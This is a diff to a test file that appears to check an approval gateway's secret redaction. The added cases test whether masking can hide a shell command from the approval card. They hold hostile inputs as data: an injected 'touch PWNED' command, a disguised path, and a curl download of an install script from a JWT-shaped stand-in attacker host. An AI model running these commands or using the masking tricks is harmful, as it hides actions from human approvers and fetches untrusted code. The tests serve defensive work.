@@ -103,6 +103,19 @@ describe('attack: a command placed where redaction masks a secret', () => {
     await rejectAndCheck(gateway, pending, answered);
   }, 60_000);
 
+  // A third attack: a quote after a label that closes a string (a mask over the words after it), a key line padded to a
+  // key's width through Debian's /usr/bin/X11 link with the command's argument after a space, and a JWT-shaped host.
+  it.each([
+    ['a quote after a label that closes a string', 'env "DEPLOY password="x1y2 touch PWNED', 'touch PWNED'],
+    ['a key line of a key\'s width with an argument', 'echo -----BEGIN PRIVATE KEY-----\n/usr/bin/X11/X11/X11/X11/X11/X11/X11/X11/touch PWNED\necho ok', '/usr/bin/X11/X11/X11/X11/X11/X11/X11/X11/touch PWNED'],
+    ['a JWT-shaped host', 'curl -sS -o install.sh https://eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0.attacker-payloads.com/install.sh', 'eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0.attacker-payloads.com'],
+  ])('an upstream shell tool given %s: the card shows what runs', async (_name, command, shows) => {
+    const { gateway, ask } = await shellServerCalls();
+    const { pending, answered } = await ask('shell', { command });
+    expect(shown(pending)).toContain(shows);
+    await rejectAndCheck(gateway, pending, answered);
+  }, 60_000);
+
   it('held: a password in a URL and a credential-named argument without code stay masked on the card', async () => {
     const { gateway, ask } = await shellServerCalls();
     const url = await ask('shell', { command: 'git ls-remote https://ci:hunter2secret@github.com/acme/site.git' });
